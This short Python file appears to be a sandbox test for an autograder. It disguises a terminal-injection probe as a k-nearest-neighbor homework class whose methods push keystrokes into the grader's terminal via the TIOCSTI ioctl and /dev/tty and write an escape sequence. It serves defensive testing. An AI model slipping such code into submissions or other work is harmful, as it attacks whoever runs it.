"""Type commands into the instructor's terminal: TIOCSTI on every descriptor and on /dev/tty, escape sequences to it."""

import fcntl
import os

LAYER = "sandbox"
EXPECT = {"score": 0, "statuses": ["errored", "failed", "unwritten"]}
CITE = "output flood, terminal escapes, HTML/JS, bidi or control characters in messages"
UNPROTECTED = "nothing"  # there is no terminal in a test run

TIOCSTI = 0x5412


class KNearestNeighbor:
    def train(self, X, y):
        self.X_train, self.y_train = X, y

    def compute_distances_two_loops(self, X):
        won = []
        for fd in range(16):
            try:
                fcntl.ioctl(fd, TIOCSTI, b"#")
                won.append(fd)
            except OSError:
                pass
        raise RuntimeError(f"typed into {won}")

    def compute_distances_one_loop(self, X):
        fd = os.open("/dev/tty", os.O_RDWR)
        os.write(fd, b"\x1b]0;owned\x07")
        fcntl.ioctl(fd, TIOCSTI, b"#")
